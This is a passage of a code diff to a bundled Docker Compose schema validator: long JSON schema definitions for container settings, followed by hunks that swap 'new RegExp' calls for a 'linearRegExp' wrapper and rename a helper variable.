"Specify the gateway priority for the network connection." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, { "type": "null" }] } }, "additionalProperties": false }], "description": "Networks to join, referencing entries under the top-level networks key. Can be a list of network names or a mapping of network name to network configuration." }, "oom_kill_disable": { "type": ["boolean", "string"], "description": "Disable OOM Killer for the container." }, "oom_score_adj": { "oneOf": [{ "type": "string" }, { "type": "integer", "minimum": -1e3, "maximum": 1e3 }], "description": "Tune host's OOM preferences for the container (accepts -1000 to 1000)." }, "pid": { "type": ["string", "null"], "description": "PID mode for container." }, "pids_limit": { "type": ["number", "string"], "description": "Tune a container's PIDs limit. Set to -1 for unlimited PIDs." }, "platform": { "type": "string", "description": "Target platform to run on, e.g., 'linux/amd64', 'linux/arm64', or 'windows/amd64'." }, "ports": { "type": "array", "description": "Expose container ports. Short format ([HOST:]CONTAINER[/PROTOCOL]).", "items": { "oneOf": [{ "type": "number" }, { "type": "string" }, { "type": "object", "properties": { "name": { "type": "string", "description": "A human-readable name for this port mapping." }, "mode": { "type": "string", "description": "The port binding mode, either 'host' for publishing a host port or 'ingress' for load balancing." }, "host_ip": { "type": "string", "description": "The host IP to bind to." }, "target": { "type": ["integer", "string"], "description": "The port inside the container." }, "published": { "type": ["string", "integer"], "description": "The publicly exposed port." }, "protocol": { "type": "string", "description": "The port protocol (tcp or udp)." }, "app_protocol": { "type": "string", "description": "Application protocol to use with the port (e.g., http, https, mysql)." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] }, "uniqueItems": true }, "post_start": { "type": "array", "items": { "$ref": "#/definitions/service_hook" }, "description": "Commands to run after the container starts. If any command fails, the container stops." }, "pre_stop": { "type": "array", "items": { "$ref": "#/definitions/service_hook" }, "description": "Commands to run before the container stops. If any command fails, the container stop is aborted." }, "privileged": { "type": ["boolean", "string"], "description": "Give extended privileges to the service container." }, "profiles": { "$ref": "#/definitions/list_of_strings", "description": "List of profiles for this service. When profiles are specified, services are only started when the profile is activated." }, "pull_policy": { "type": "string", "pattern": "always|never|build|if_not_present|missing|refresh|daily|weekly|every_([0-9]+[wdhms])+", "description": "Policy for pulling images. Options include: 'always', 'never', 'if_not_present', 'missing', 'build', or time-based refresh policies." }, "pull_refresh_after": { "type": "string", "description": "Time after which to refresh the image. Used with pull_policy=refresh." }, "read_only": { "type": ["boolean", "string"], "description": "Mount the container's filesystem as read only." }, "restart": { "type": "string", "description": "Restart policy for the service container. Options include: 'no', 'always', 'on-failure', and 'unless-stopped'." }, "runtime": { "type": "string", "description": "Runtime to use for this container, e.g., 'runc'." }, "scale": { "type": ["integer", "string"], "description": "Number of containers to deploy for this service." }, "security_opt": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Override the default labeling scheme for each container." }, "shm_size": { "type": ["number", "string"], "description": "Size of /dev/shm. A string value can use suffix like '2g' for 2 gigabytes." }, "secrets": { "$ref": "#/definitions/service_config_or_secret", "description": "Grant access to Secrets on a per-service basis." }, "sysctls": { "$ref": "#/definitions/list_or_dict", "description": "Kernel parameters to set in the container. You can use either an array or a list." }, "stdin_open": { "type": ["boolean", "string"], "description": "Keep STDIN open even if not attached." }, "stop_grace_period": { "type": "string", "description": "Time to wait for the container to stop gracefully before sending SIGKILL (e.g., '1s', '1m30s')." }, "stop_signal": { "type": "string", "description": "Signal to stop the container (e.g., 'SIGTERM', 'SIGINT')." }, "storage_opt": { "type": "object", "description": "Storage driver options for the container." }, "tmpfs": { "$ref": "#/definitions/string_or_list", "description": "Mount a temporary filesystem (tmpfs) into the container. Can be a single value or a list." }, "tty": { "type": ["boolean", "string"], "description": "Allocate a pseudo-TTY to service container." }, "ulimits": { "$ref": "#/definitions/ulimits", "description": "Override the default ulimits for a container." }, "use_api_socket": { "type": "boolean", "description": "Bind mount Docker API socket and required auth." }, "user": { "type": "string", "description": "Username or UID to run the container process as." }, "uts": { "type": "string", "description": "UTS namespace to use. 'host' shares the host's UTS namespace." }, "userns_mode": { "type": "string", "description": "User namespace to use. 'host' shares the host's user namespace." }, "volumes": { "type": "array", "description": "Mount host paths or named volumes accessible to the container. Short syntax (VOLUME:CONTAINER_PATH[:MODE])", "items": { "oneOf": [{ "type": "string" }, { "type": "object", "required": ["type"], "properties": { "type": { "type": "string", "enum": ["bind", "volume", "tmpfs", "cluster", "npipe", "image"], "description": "The mount type: bind for mounting host directories, volume for named volumes, tmpfs for temporary filesystems, cluster for cluster volumes, npipe for named pipes, or image for mounting from an image." }, "source": { "type": "string", "description": "The source of the mount, a path on the host for a bind mount, a docker image reference for an image mount, or the name of a volume defined in the top-level volumes key. Not applicable for a tmpfs mount." }, "target": { "type": "string", "description": "The path in the container where the volume is mounted." }, "read_only": { "type": ["boolean", "string"], "description": "Flag to set the volume as read-only." }, "consistency": { "type": "string", "description": "The consistency requirements for the mount. Available values are platform specific." }, "bind": { "type": "object", "description": "Configuration specific to bind mounts.", "properties": { "propagation": { "type": "string", "description": "The propagation mode for the bind mount: 'shared', 'slave', 'private', 'rshared', 'rslave', or 'rprivate'." }, "create_host_path": { "type": ["boolean", "string"], "description": "Create the host path if it doesn't exist." }, "recursive": { "type": "string", "enum": ["enabled", "disabled", "writable", "readonly"], "description": "Recursively mount the source directory." }, "selinux": { "type": "string", "enum": ["z", "Z"], "description": "SELinux relabeling options: 'z' for shared content, 'Z' for private unshared content." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "volume": { "type": "object", "description": "Configuration specific to volume mounts.", "properties": { "labels": { "$ref": "#/definitions/list_or_dict", "description": "Labels to apply to the volume." }, "nocopy": { "type": ["boolean", "string"], "description": "Flag to disable copying of data from a container when a volume is created." }, "subpath": { "type": "string", "description": "Path within the volume to mount instead of the volume root." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "tmpfs": { "type": "object", "description": "Configuration specific to tmpfs mounts.", "properties": { "size": { "oneOf": [{ "type": "integer", "minimum": 0 }, { "type": "string" }], "description": "Size of the tmpfs mount in bytes." }, "mode": { "type": ["number", "string"], "description": "File mode of the tmpfs in octal." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "image": { "type": "object", "description": "Configuration specific to image mounts.", "properties": { "subpath": { "type": "string", "description": "Path within the image to mount instead of the image root." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] }, "uniqueItems": true }, "volumes_from": { "type": "array", "items": { "type": "string" }, "uniqueItems": true, "description": "Mount volumes from another service or container. Optionally specify read-only access (ro) or read-write (rw)." }, "working_dir": { "type": "string", "description": "The working directory in which the entrypoint or command will be run" } }, "patternProperties": { "^x-": {} }, "additionalProperties": false }, "healthcheck": { "type": "object", "description": "Configuration options to determine whether the container is healthy.", "properties": { "disable": { "type": ["boolean", "string"], "description": "Disable any container-specified healthcheck. Set to true to disable." }, "interval": { "type": "string", "description": "Time between running the check (e.g., '1s', '1m30s'). Default: 30s." }, "retries": { "type": ["number", "string"], "description": "Number of consecutive failures needed to consider the container as unhealthy. Default: 3." }, "test": { "oneOf": [{ "type": "string" }, { "type": "array", "items": { "type": "string" } }], "description": "The test to perform to check container health. Can be a string or a list. The first item is either NONE, CMD, or CMD-SHELL. If it's CMD, the rest of the command is exec'd. If it's CMD-SHELL, the rest is run in the shell." }, "timeout": { "type": "string", "description": "Maximum time to allow one check to run (e.g., '1s', '1m30s'). Default: 30s." }, "start_period": { "type": "string", "description": "Start period for the container to initialize before starting health-retries countdown (e.g., '1s', '1m30s'). Default: 0s." }, "start_interval": { "type": "string", "description": "Time between running the check during the start period (e.g., '1s', '1m30s'). Default: interval value." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "development": { "type": ["object", "null"], "description": "Development configuration for the service, used for development workflows.", "properties": { "watch": { "type": "array", "description": "Configure watch mode for the service, which monitors file changes and performs actions in response.", "items": { "type": "object", "required": ["path", "action"], "properties": { "ignore": { "$ref": "#/definitions/string_or_list", "description": "Patterns to exclude from watching." }, "include": { "$ref": "#/definitions/string_or_list", "description": "Patterns to include in watching." }, "path": { "type": "string", "description": "Path to watch for changes." }, "action": { "type": "string", "enum": ["rebuild", "sync", "restart", "sync+restart", "sync+exec"], "description": "Action to take when a change is detected: rebuild the container, sync files, restart the container, sync and restart, or sync and execute a command." }, "target": { "type": "string", "description": "Target path in the container for sync operations." }, "exec": { "$ref": "#/definitions/service_hook", "description": "Command to execute when a change is detected and action is sync+exec." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "deployment": { "type": ["object", "null"], "description": "Deployment configuration for the service.", "properties": { "mode": { "type": "string", "description": "Deployment mode for the service: 'replicated' (default) or 'global'." }, "endpoint_mode": { "type": "string", "description": "Endpoint mode for the service: 'vip' (default) or 'dnsrr'." }, "replicas": { "type": ["integer", "string"], "description": "Number of replicas of the service container to run." }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Labels to apply to the service." }, "rollback_config": { "type": "object", "description": "Configuration for rolling back a service update.", "properties": { "parallelism": { "type": ["integer", "string"], "description": "The number of containers to rollback at a time. If set to 0, all containers rollback simultaneously." }, "delay": { "type": "string", "description": "The time to wait between each container group's rollback (e.g., '1s', '1m30s')." }, "failure_action": { "type": "string", "description": "Action to take if a rollback fails: 'continue', 'pause'." }, "monitor": { "type": "string", "description": "Duration to monitor each task for failures after it is created (e.g., '1s', '1m30s')." }, "max_failure_ratio": { "type": ["number", "string"], "description": "Failure rate to tolerate during a rollback." }, "order": { "type": "string", "enum": ["start-first", "stop-first"], "description": "Order of operations during rollbacks: 'stop-first' (default) or 'start-first'." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "update_config": { "type": "object", "description": "Configuration for updating a service.", "properties": { "parallelism": { "type": ["integer", "string"], "description": "The number of containers to update at a time." }, "delay": { "type": "string", "description": "The time to wait between updating a group of containers (e.g., '1s', '1m30s')." }, "failure_action": { "type": "string", "description": "Action to take if an update fails: 'continue', 'pause', 'rollback'." }, "monitor": { "type": "string", "description": "Duration to monitor each updated task for failures after it is created (e.g., '1s', '1m30s')." }, "max_failure_ratio": { "type": ["number", "string"], "description": "Failure rate to tolerate during an update (0 to 1)." }, "order": { "type": "string", "enum": ["start-first", "stop-first"], "description": "Order of operations during updates: 'stop-first' (default) or 'start-first'." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "resources": { "type": "object", "description": "Resource constraints and reservations for the service.", "properties": { "limits": { "type": "object", "description": "Resource limits for the service containers.", "properties": { "cpus": { "type": ["number", "string"], "description": "Limit for how much of the available CPU resources, as number of cores, a container can use." }, "memory": { "type": "string", "description": "Limit on the amount of memory a container can allocate (e.g., '1g', '1024m')." }, "pids": { "type": ["integer", "string"], "description": "Maximum number of PIDs available to the container." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "reservations": { "type": "object", "description": "Resource reservations for the service containers.", "properties": { "cpus": { "type": ["number", "string"], "description": "Reservation for how much of the available CPU resources, as number of cores, a container can use." }, "memory": { "type": "string", "description": "Reservation on the amount of memory a container can allocate (e.g., '1g', '1024m')." }, "generic_resources": { "$ref": "#/definitions/generic_resources", "description": "User-defined resources to reserve." }, "devices": { "$ref": "#/definitions/devices", "description": "Device reservations for the container." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "restart_policy": { "type": "object", "description": "Restart policy for the service containers.", "properties": { "condition": { "type": "string", "description": "Condition for restarting the container: 'none', 'on-failure', 'any'." }, "delay": { "type": "string", "description": "Delay between restart attempts (e.g., '1s', '1m30s')." }, "max_attempts": { "type": ["integer", "string"], "description": "Maximum number of restart attempts before giving up." }, "window": { "type": "string", "description": "Time window used to evaluate the restart policy (e.g., '1s', '1m30s')." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "placement": { "type": "object", "description": "Constraints and preferences for the platform to select a physical node to run service containers", "properties": { "constraints": { "type": "array", "items": { "type": "string" }, "description": "Placement constraints for the service (e.g., 'node.role==manager')." }, "preferences": { "type": "array", "description": "Placement preferences for the service.", "items": { "type": "object", "properties": { "spread": { "type": "string", "description": "Spread tasks evenly across values of the specified node label." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "max_replicas_per_node": { "type": ["integer", "string"], "description": "Maximum number of replicas of the service." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "generic_resources": { "type": "array", "description": "User-defined resources for services, allowing services to reserve specialized hardware resources.", "items": { "type": "object", "properties": { "discrete_resource_spec": { "type": "object", "description": "Specification for discrete (countable) resources.", "properties": { "kind": { "type": "string", "description": "Type of resource (e.g., 'GPU', 'FPGA', 'SSD')." }, "value": { "type": ["number", "string"], "description": "Number of resources of this kind to reserve." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "devices": { "type": "array", "description": "Device reservations for containers, allowing services to access specific hardware devices.", "items": { "type": "object", "properties": { "capabilities": { "$ref": "#/definitions/list_of_strings", "description": "List of capabilities the device needs to have (e.g., 'gpu', 'compute', 'utility')." }, "count": { "type": ["string", "integer"], "description": "Number of devices of this type to reserve." }, "device_ids": { "$ref": "#/definitions/list_of_strings", "description": "List of specific device IDs to reserve." }, "driver": { "type": "string", "description": "Device driver to use (e.g., 'nvidia')." }, "options": { "$ref": "#/definitions/list_or_dict", "description": "Driver-specific options for the device." } }, "additionalProperties": false, "patternProperties": { "^x-": {} }, "required": ["capabilities"] } }, "gpus": { "oneOf": [{ "type": "string", "enum": ["all"], "description": "Use all available GPUs." }, { "type": "array", "description": "List of specific GPU devices to use.", "items": { "type": "object", "properties": { "capabilities": { "$ref": "#/definitions/list_of_strings", "description": "List of capabilities the GPU needs to have (e.g., 'compute', 'utility')." }, "count": { "type": ["string", "integer"], "description": "Number of GPUs to use." }, "device_ids": { "$ref": "#/definitions/list_of_strings", "description": "List of specific GPU device IDs to use." }, "driver": { "type": "string", "description": "GPU driver to use (e.g., 'nvidia')." }, "options": { "$ref": "#/definitions/list_or_dict", "description": "Driver-specific options for the GPU." } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] }, "include": { "description": "Compose application or sub-projects to be included.", "oneOf": [{ "type": "string" }, { "type": "object", "properties": { "path": { "$ref": "#/definitions/string_or_list", "description": "Path to the Compose application or sub-project files to include." }, "env_file": { "$ref": "#/definitions/string_or_list", "description": "Path to the environment files to use to define default values when interpolating variables in the Compose files being parsed." }, "project_directory": { "type": "string", "description": "Path to resolve relative paths set in the Compose file" } }, "additionalProperties": false }] }, "network": { "type": ["object", "null"], "description": "Network configuration for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this network." }, "driver": { "type": "string", "description": "Specify which driver should be used for this network. Default is 'bridge'." }, "driver_opts": { "type": "object", "description": "Specify driver-specific options defined as key/value pairs.", "patternProperties": { "^.+$": { "type": ["string", "number"] } } }, "ipam": { "type": "object", "description": "Custom IP Address Management configuration for this network.", "properties": { "driver": { "type": "string", "description": "Custom IPAM driver, instead of the default." }, "config": { "type": "array", "description": "List of IPAM configuration blocks.", "items": { "type": "object", "properties": { "subnet": { "type": "string", "description": "Subnet in CIDR format that represents a network segment." }, "ip_range": { "type": "string", "description": "Range of IPs from which to allocate container IPs." }, "gateway": { "type": "string", "description": "IPv4 or IPv6 gateway for the subnet." }, "aux_addresses": { "type": "object", "description": "Auxiliary IPv4 or IPv6 addresses used by Network driver.", "additionalProperties": false, "patternProperties": { "^.+$": { "type": "string" } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } }, "options": { "type": "object", "description": "Driver-specific options for the IPAM driver.", "additionalProperties": false, "patternProperties": { "^.+$": { "type": "string" } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "external": { "type": ["boolean", "string", "object"], "description": "Specifies that this network already exists and was created outside of Compose.", "properties": { "name": { "deprecated": true, "type": "string", "description": "Specifies the name of the external network. Deprecated: use the 'name' property instead." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "internal": { "type": ["boolean", "string"], "description": "Create an externally isolated network." }, "enable_ipv4": { "type": ["boolean", "string"], "description": "Enable IPv4 networking." }, "enable_ipv6": { "type": ["boolean", "string"], "description": "Enable IPv6 networking." }, "attachable": { "type": ["boolean", "string"], "description": "If true, standalone containers can attach to this network." }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to the network using labels." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "volume": { "type": ["object", "null"], "description": "Volume configuration for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this volume." }, "driver": { "type": "string", "description": "Specify which volume driver should be used for this volume." }, "driver_opts": { "type": "object", "description": "Specify driver-specific options.", "patternProperties": { "^.+$": { "type": ["string", "number"] } } }, "external": { "type": ["boolean", "string", "object"], "description": "Specifies that this volume already exists and was created outside of Compose.", "properties": { "name": { "deprecated": true, "type": "string", "description": "Specifies the name of the external volume. Deprecated: use the 'name' property instead." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to the volume using labels." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "secret": { "type": "object", "description": "Secret configuration for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this secret." }, "environment": { "type": "string", "description": "Name of an environment variable from which to get the secret value." }, "file": { "type": "string", "description": "Path to a file containing the secret value." }, "external": { "type": ["boolean", "string", "object"], "description": "Specifies that this secret already exists and was created outside of Compose.", "properties": { "name": { "type": "string", "description": "Specifies the name of the external secret." } } }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to the secret using labels." }, "driver": { "type": "string", "description": "Specify which secret driver should be used for this secret." }, "driver_opts": { "type": "object", "description": "Specify driver-specific options.", "patternProperties": { "^.+$": { "type": ["string", "number"] } } }, "template_driver": { "type": "string", "description": "Driver to use for templating the secret's value." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "config": { "type": "object", "description": "Config configuration for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this config." }, "content": { "type": "string", "description": "Inline content of the config." }, "environment": { "type": "string", "description": "Name of an environment variable from which to get the config value." }, "file": { "type": "string", "description": "Path to a file containing the config value." }, "external": { "type": ["boolean", "string", "object"], "description": "Specifies that this config already exists and was created outside of Compose.", "properties": { "name": { "deprecated": true, "type": "string", "description": "Specifies the name of the external config. Deprecated: use the 'name' property instead." } } }, "labels": { "$ref": "#/definitions/list_or_dict", "description": "Add metadata to the config using labels." }, "template_driver": { "type": "string", "description": "Driver to use for templating the config's value." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }, "model": { "type": "object", "description": "Language Model for the Compose application.", "properties": { "name": { "type": "string", "description": "Custom name for this model." }, "model": { "type": "string", "description": "Language Model to run." }, "context_size": { "type": "integer" }, "runtime_flags": { "type": "array", "items": { "type": "string" }, "description": "Raw runtime flags to pass to the inference engine." } }, "required": ["model"], "additionalProperties": false, "patternProperties": { "^x-": {} } }, "command": { "oneOf": [{ "type": "null", "description": "No command specified, use the container's default command." }, { "type": "string", "description": "Command as a string, which will be executed in a shell (e.g., '/bin/sh -c')." }, { "type": "array", "description": "Command as an array of strings, which will be executed directly without a shell.", "items": { "type": "string", "description": "Part of the command (executable or argument)." } }], "description": "Command to run in the container, which can be specified as a string (shell form) or array (exec form)." }, "service_hook": { "type": "object", "description": "Configuration for service lifecycle hooks, which are commands executed at specific points in a container's lifecycle.", "properties": { "command": { "$ref": "#/definitions/command", "description": "Command to execute as part of the hook." }, "user": { "type": "string", "description": "User to run the command as." }, "privileged": { "type": ["boolean", "string"], "description": "Whether to run the command with extended privileges." }, "working_dir": { "type": "string", "description": "Working directory for the command." }, "environment": { "$ref": "#/definitions/list_or_dict", "description": "Environment variables for the command." } }, "additionalProperties": false, "patternProperties": { "^x-": {} }, "required": ["command"] }, "env_file": { "oneOf": [{ "type": "string", "description": "Path to a file containing environment variables." }, { "type": "array", "description": "List of paths to files containing environment variables.", "items": { "oneOf": [{ "type": "string", "description": "Path to a file containing environment variables." }, { "type": "object", "description": "Detailed configuration for an environment file.", "additionalProperties": false, "properties": { "path": { "type": "string", "description": "Path to the environment file." }, "format": { "type": "string", "description": "Format attribute lets you to use an alternative file formats for env_file. When not set, env_file is parsed according to Compose rules." }, "required": { "type": ["boolean", "string"], "default": true, "description": "Whether the file is required. If true and the file doesn't exist, an error will be raised." } }, "required": ["path"] }] } }] }, "label_file": { "oneOf": [{ "type": "string", "description": "Path to a file containing Docker labels." }, { "type": "array", "description": "List of paths to files containing Docker labels.", "items": { "type": "string", "description": "Path to a file containing Docker labels." } }] }, "string_or_list": { "oneOf": [{ "type": "string", "description": "A single string value." }, { "$ref": "#/definitions/list_of_strings", "description": "A list of string values." }], "description": "Either a single string or a list of strings." }, "list_of_strings": { "type": "array", "description": "A list of unique string values.", "items": { "type": "string", "description": "A string value in the list." }, "uniqueItems": true }, "list_or_dict": { "oneOf": [{ "type": "object", "description": "A dictionary mapping keys to values.", "patternProperties": { ".+": { "type": ["string", "number", "boolean", "null"], "description": "Value for the key, which can be a string, number, boolean, or null." } }, "additionalProperties": false }, { "type": "array", "description": "A list of unique string values.", "items": { "type": "string", "description": "A string value in the list." }, "uniqueItems": true }], "description": "Either a dictionary mapping keys to values, or a list of strings." }, "extra_hosts": { "oneOf": [{ "type": "object", "description": "list mapping hostnames to IP addresses.", "patternProperties": { ".+": { "oneOf": [{ "type": "string", "description": "IP address for the hostname." }, { "type": "array", "description": "List of IP addresses for the hostname.", "items": { "type": "string", "description": "IP address for the hostname." }, "uniqueItems": false }] } }, "additionalProperties": false }, { "type": "array", "description": "List of host:IP mappings in the format 'hostname:IP'.", "items": { "type": "string", "description": "Host:IP mapping in the format 'hostname:IP'." }, "uniqueItems": true }], "description": "Additional hostnames to be defined in the container's /etc/hosts file." }, "blkio_limit": { "type": "object", "description": "Block IO limit for a specific device.", "properties": { "path": { "type": "string", "description": "Path to the device (e.g., '/dev/sda')." }, "rate": { "type": ["integer", "string"], "description": "Rate limit in bytes per second or IO operations per second." } }, "additionalProperties": false }, "blkio_weight": { "type": "object", "description": "Block IO weight for a specific device.", "properties": { "path": { "type": "string", "description": "Path to the device (e.g., '/dev/sda')." }, "weight": { "type": ["integer", "string"], "description": "Relative weight for the device, between 10 and 1000." } }, "additionalProperties": false }, "service_config_or_secret": { "type": "array", "description": "Configuration for service configs or secrets, defining how they are mounted in the container.", "items": { "oneOf": [{ "type": "string", "description": "Name of the config or secret to grant access to." }, { "type": "object", "description": "Detailed configuration for a config or secret.", "properties": { "source": { "type": "string", "description": "Name of the config or secret as defined in the top-level configs or secrets section." }, "target": { "type": "string", "description": "Path in the container where the config or secret will be mounted. Defaults to /<source> for configs and /run/secrets/<source> for secrets." }, "uid": { "type": "string", "description": "UID of the file in the container. Default is 0 (root)." }, "gid": { "type": "string", "description": "GID of the file in the container. Default is 0 (root)." }, "mode": { "type": ["number", "string"], "description": "File permission mode inside the container, in octal. Default is 0444 for configs and 0400 for secrets." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } }] } }, "ulimits": { "type": "object", "description": "Container ulimit options, controlling resource limits for processes inside the container.", "patternProperties": { "^[a-z]+$": { "oneOf": [{ "type": ["integer", "string"], "description": "Single value for both soft and hard limits." }, { "type": "object", "description": "Separate soft and hard limits.", "properties": { "hard": { "type": ["integer", "string"], "description": "Hard limit for the ulimit type. This is the maximum allowed value." }, "soft": { "type": ["integer", "string"], "description": "Soft limit for the ulimit type. This is the value that's actually enforced." } }, "required": ["soft", "hard"], "additionalProperties": false, "patternProperties": { "^x-": {} } }] } } } } };
-var func22 = Object.prototype.hasOwnProperty;
-var pattern0 = new RegExp("^x-", "u");
-var pattern1 = new RegExp("^[a-zA-Z0-9._-]+$", "u");
+var func2 = Object.prototype.hasOwnProperty;
+var func32 = linearRegExp;
+var pattern0 = func32("^x-", "u");
+var pattern1 = func32("^[a-zA-Z0-9._-]+$", "u");
 function validate12(data, { instancePath = "", parentData, parentDataProperty, rootData = data } = {}) {
   let vErrors = null;
   let errors = 0;
@@ -36684,11 +43346,11 @@ var schema39 = { "type": "object", "description": "Block IO weight for a specifi
 var schema45 = { "oneOf": [{ "type": "string", "description": "Path to a file containing environment variables." }, { "type": "array", "description": "List of paths to files containing environment variables.", "items": { "oneOf": [{ "type": "string", "description": "Path to a file containing environment variables." }, { "type": "object", "description": "Detailed configuration for an environment file.", "additionalProperties": false, "properties": { "path": { "type": "string", "description": "Path to the environment file." }, "format": { "type": "string", "description": "Format attribute lets you to use an alternative file formats for env_file. When not set, env_file is parsed according to Compose rules." }, "required": { "type": ["boolean", "string"], "default": true, "description": "Whether the file is required. If true and the file doesn't exist, an error will be raised." } }, "required": ["path"] }] } }] };
 var schema53 = { "type": "object", "description": "Configuration options to determine whether the container is healthy.", "properties": { "disable": { "type": ["boolean", "string"], "description": "Disable any container-specified healthcheck. Set to true to disable." }, "interval": { "type": "string", "description": "Time between running the check (e.g., '1s', '1m30s'). Default: 30s." }, "retries": { "type": ["number", "string"], "description": "Number of consecutive failures needed to consider the container as unhealthy. Default: 3." }, "test": { "oneOf": [{ "type": "string" }, { "type": "array", "items": { "type": "string" } }], "description": "The test to perform to check container health. Can be a string or a list. The first item is either NONE, CMD, or CMD-SHELL. If it's CMD, the rest of the command is exec'd. If it's CMD-SHELL, the rest is run in the shell." }, "timeout": { "type": "string", "description": "Maximum time to allow one check to run (e.g., '1s', '1m30s'). Default: 30s." }, "start_period": { "type": "string", "description": "Start period for the container to initialize before starting health-retries countdown (e.g., '1s', '1m30s'). Default: 0s." }, "start_interval": { "type": "string", "description": "Time between running the check during the start period (e.g., '1s', '1m30s'). Default: interval value." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } };
 var func02 = require_equal().default;
-var pattern72 = new RegExp(".+", "u");
-var pattern392 = new RegExp("^[a-z]+$", "u");
-var pattern422 = new RegExp("[a-zA-Z0-9][a-zA-Z0-9_.-]+", "u");
-var pattern512 = new RegExp("^.+$", "u");
-var pattern692 = new RegExp("always|never|build|if_not_present|missing|refresh|daily|weekly|every_([0-9]+[wdhms])+", "u");
+var pattern72 = func32(".+", "u");
+var pattern392 = func32("^[a-z]+$", "u");
+var pattern422 = func32("[a-zA-Z0-9][a-zA-Z0-9_.-]+", "u");
+var pattern512 = func32("^.+$", "u");
+var pattern692 = func32("always|never|build|if_not_present|missing|refresh|daily|weekly|every_([0-9]+[wdhms])+", "u");
 var schema16 = { "type": ["object", "null"], "description": "Development configuration for the service, used for development workflows.", "properties": { "watch": { "type": "array", "description": "Configure watch mode for the service, which monitors file changes and performs actions in response.", "items": { "type": "object", "required": ["path", "action"], "properties": { "ignore": { "$ref": "#/definitions/string_or_list", "description": "Patterns to exclude from watching." }, "include": { "$ref": "#/definitions/string_or_list", "description": "Patterns to include in watching." }, "path": { "type": "string", "description": "Path to watch for changes." }, "action": { "type": "string", "enum": ["rebuild", "sync", "restart", "sync+restart", "sync+exec"], "description": "Action to take when a change is detected: rebuild the container, sync files, restart the container, sync and restart, or sync and execute a command." }, "target": { "type": "string", "description": "Target path in the container for sync operations." }, "exec": { "$ref": "#/definitions/service_hook", "description": "Command to execute when a change is detected and action is sync+exec." } }, "additionalProperties": false, "patternProperties": { "^x-": {} } } } }, "additionalProperties": false, "patternProperties": { "^x-": {} } };
 var schema17 = { "type": "object", "description": "Configuration for service lifecycle hooks, which are commands executed at specific points in a container's lifecycle.", "properties": { "command": { "$ref": "#/definitions/command", "description": "Command to execute as part of the hook." }, "user": { "type": "string", "description": "User to run the command as." }, "privileged": { "type": ["boolean", "string"], "description": "Whether to run the command with extended privileges." }, "working_dir": { "type": "string", "description": "Working directory for the command." }, "environment": { "$ref": "#/definitions/list_or_dict", "description": "Environment variables for the command." } }, "additionalProperties": false, "patternProperties": { "^x-": {} }, "required": ["command"] };
 function validate202(data, { instancePath = "", parentData, parentDataProperty, rootData = data } = {}) {
@@ -37426,7 +44088,7 @@ function validate232(data, { instancePath = "", parentData, parentDataProperty, 
   }
   if (data && typeof data == "object" && !Array.isArray(data)) {
     for (const key0 in data) {
-      if (!(func22.call(schema20.properties, key0) || pattern0.test(key0))) {
+      if (!(func2.call(schema20.properties, key0) || pattern0.test(key0))) {
         const err1 = { instancePath, schemaPath: "#/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key0 }, message: "must NOT have additional properties" };
         if (vErrors === null) {
           vErrors = [err1];
@@ -38544,7 +45206,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
   let errors = 0;
   if (data && typeof data == "object" && !Array.isArray(data)) {
     for (const key0 in data) {
-      if (!(func22.call(schema15.properties, key0) || pattern0.test(key0))) {
+      if (!(func2.call(schema15.properties, key0) || pattern0.test(key0))) {
         const err0 = { instancePath, schemaPath: "#/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key0 }, message: "must NOT have additional properties" };
         if (vErrors === null) {
           vErrors = [err0];
@@ -38722,7 +45384,7 @@ function validate16(data, { instancePath = "", parentData, parentDataProperty, r
       const _errs22 = errors;
       if (data6 && typeof data6 == "object" && !Array.isArray(data6)) {
         for (const key3 in data6) {
-          if (!(func22.call(schema15.properties.build.oneOf[1].properties, key3) || pattern0.test(key3))) {
+          if (!(func2.call(schema15.properties.build.oneOf[1].properties, key3) || pattern0.test(key3))) {
             const err10 = { instancePath: instancePath + "/build", schemaPath: "#/properties/build/oneOf/1/additionalProperties", keyword: "additionalProperties", params: { additionalProperty: key3 }, message: "must NOT have additional properties" };
             if (vErrors === null) {
               vErrors = [err10];
